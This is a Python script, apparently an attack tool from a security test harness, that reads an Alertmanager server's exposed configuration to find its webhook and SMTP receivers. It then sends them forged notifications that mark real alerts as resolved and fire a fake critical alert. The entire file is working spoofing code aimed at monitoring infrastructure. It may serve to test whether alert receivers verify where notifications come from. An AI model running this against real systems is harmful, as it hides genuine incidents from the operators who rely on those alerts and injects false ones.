"""A program of another user of this machine: tells the sinks of a run what Alertmanager did not say.

    forger.py ALERTMANAGER_URL LABELS_JSON [WEBHOOK_URL...]

Every door is read where Alertmanager shows it to everybody; one that hides the addresses of webhooks is no help, so
they are guessed: the given URLs. Each is told that these alerts are resolved, and that
another one fires, in every way in which that was once believed. Prints what was answered.
"""

from __future__ import annotations

import json
import re
import smtplib
import sys
import time
import urllib.error
import urllib.request
from urllib.parse import urlencode

FORMS = ("application/json", "text/plain")


def ask(url: str, body: bytes | None = None, head: dict[str, str] | None = None) -> bytes:
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    try:
        with opener.open(urllib.request.Request(url, body, head or {}), timeout=20) as answer:
            return bytes(answer.read())
    except urllib.error.HTTPError as error:
        return f"{error.code}".encode()


def main() -> None:
    url, labels = sys.argv[1], json.loads(sys.argv[2])
    guessed = sys.argv[3:]
    shown = json.loads(ask(f"{url}/api/v2/status"))["config"]["original"]
    stray = {"alertname": "Forged", "severity": "critical"}
    said: list[str] = []
    now = time.time()
    stamp = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(now))
    for status, told in (("resolved", labels), ("firing", stray)):
        alert = {"status": status, "labels": told, "startsAt": stamp, "endsAt": stamp}
        payload = json.dumps({"version": "4", "status": status, "groupKey": "forged", "alerts": [alert]}).encode()
        for door in re.findall(r"http://127\.0\.0\.1:\d+/door/\S+", shown) or guessed:
            for form in FORMS:
                said.append(f"{door} {ask(door, payload, {'Content-Type': form})!r}")
        for port in re.findall(r"smarthost: 127\.0\.0\.1:(\d+)", shown):
            ends = int(now * 1e9) if status == "resolved" else ""
            header = f"X-Chaoskit-Alerts: {status};{int(now * 1e9)};{ends};{urlencode(told)}&"
            try:
                with smtplib.SMTP("127.0.0.1", int(port), timeout=20) as client:
                    client.sendmail("a@x", ["b@y"], f"Subject: [{status.upper()}]\r\n{header}\r\n\r\nforged")
                said.append(f"{port} taken")
            except smtplib.SMTPException as error:
                said.append(f"{port} {error}")
    sys.stdout.write("\n".join(said))


main()
